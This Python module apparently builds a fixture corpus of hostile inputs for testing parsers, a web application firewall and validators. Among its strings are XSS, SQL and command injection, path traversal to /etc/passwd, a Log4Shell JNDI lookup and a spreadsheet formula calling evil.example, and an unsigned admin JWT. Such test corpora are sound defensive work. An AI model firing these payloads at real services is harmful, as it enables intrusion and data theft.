"""A small hostile corpus of our own, in the form of the published one: it is always there."""

import base64
from collections.abc import Mapping
from typing import Any

TEXTS = (
    "",
    " ",
    "plain",
    "O'Brien & Söhne GmbH",
    "\u200b\u200d\ufeff",
    "\u202eevitcepsrep\u202c",
    "\x00",
    "\x07\x1b[31mred",
    "line\nbreak",
    "line\r\nBcc: all@example.com",
    "\ud800",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "e\u0301\u0327\u0323" * 20,
    "\uff1cscript\uff1e",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR 1=1; DROP TABLE orders; --",
    "$1 %s {0} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%00%0d%0aX-Evil:1",
    "$(touch /tmp/x)`id`|id;id",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "null",
    "undefined",
    "NaN",
    "1e400",
    "-0",
    "0x7fffffff",
    "9223372036854775808",
    "true",
    "[]",
    '{"$ne": null}',
    "a" * 10_000,
    "\u0130\u0131\u017f\ufb01\u1e9e\u212a",
    "test\u2028test\u2029test",
    "\u0627\u0644\u0633\u0644\u0627\u0645",
    "Ą̸́" * 50,
)
DOCUMENTS = (
    ("y_object", "accept", b'{"": {"a": []}}'),
    ("y_array", "accept", b'[1, 2.5e10, -0, "\\u20ac", null, true]'),
    ("y_text", "accept", b'"text"'),
    ("y_whitespace", "accept", b' \t\r\n {"a": 1} \n'),
    ("y_lone_surrogate", "either", b'["\\ud800"]'),
    ("y_repeated_key", "either", b'{"a": 1, "a": 2}'),
    ("i_huge_number", "either", b"[1e999]"),
    ("i_long_integer", "either", b"[" + b"9" * 5_000 + b"]"),
    ("i_deep", "either", b"[" * 500 + b"]" * 500),
    ("n_open", "reject", b"["),
    ("n_comma", "reject", b"[1,]"),
    ("n_nan", "reject", b"[NaN]"),
    ("n_single_quotes", "reject", b"{'a': 1}"),
    ("n_comment", "reject", b"{} // x"),
    ("n_two", "reject", b"{} {}"),
    ("n_bom", "reject", b"\xef\xbb\xbf{}"),
    ("n_not_utf8", "reject", b'["\xff"]'),
    ("n_control", "reject", b'["\x01"]'),
    ("n_hex", "reject", b"[0x1]"),
    ("n_deep_open", "reject", b"[" * 100_000),
)
TARGETS = (
    "/?x=<script>alert(1)</script>",
    "/v1/products?q=%27%20OR%201%3D1--",
    "/v1/products/..%2f..%2fetc%2fpasswd",
    "/.git/config",
    "/v1/search?q=${jndi:ldap://evil.example/a}",
    "/v1/search?q=%00%ff",
    "/" + "a/" * 500,
    "*",
)
ADDRESSES = (
    {"road": "28th Street", "city": "Abu Dhabi", "postcode": "277", "country_code": "ae"},
    {"road": "Łąkowa 1/2", "city": "Łódź", "postcode": "90-562", "country_code": "pl"},
    {"road": "千代田1-1", "city": "東京都", "postcode": "100-0001", "country_code": "jp"},
    {"house": "No name", "city": "Ōtautahi", "country_code": "nz"},
)
PHONES = (
    "+44 20 7946 0000",
    "(0)123",
    "tel:+376-312-345",
    "\uff11\uff12\uff13",
    "00000000000000000000",
    "x",
)
PEOPLE = (
    "My name is Renée O'Connor-Sørensen",
    "Card 4111 1111 1111 1111, exp 12/30",
    "IBAN GB33BUKB20201555555555, call +44 20 7946 0000",
)
BEARERS = (
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
    "eyJhbGciOiJIUzI1NiJ9.e30.AAAA",
    "a.b.c",
    "..",
    "tw_live_",
    "tw_live_" + "0" * 26 + "_" + "A" * 43,
    "ot_ord_x_y",
)


CORPUS: Mapping[str, list[dict[str, Any]]] = {
    "naughty_strings": [{"s": text} for text in TEXTS],
    "json_documents": [
        {"name": name, "expect": expect, "base64": base64.b64encode(raw).decode()}
        for name, expect, raw in DOCUMENTS
    ],
    "waf_requests": [
        {"stages": [{"request": {"method": method, "uri": target, "headers": {"X": "${7*7}"}}}]}
        for target in TARGETS
        for method in ("GET", "POST")
    ],
    "addresses": [{"components": parts} for parts in ADDRESSES],
    "phone_numbers": [{"inputs": list(PHONES)}],
    "pii_texts": [{"text": text} for text in PEOPLE],
    "crypto_vectors": [{"tests": [{"jws": bearer} for bearer in BEARERS]}],
}
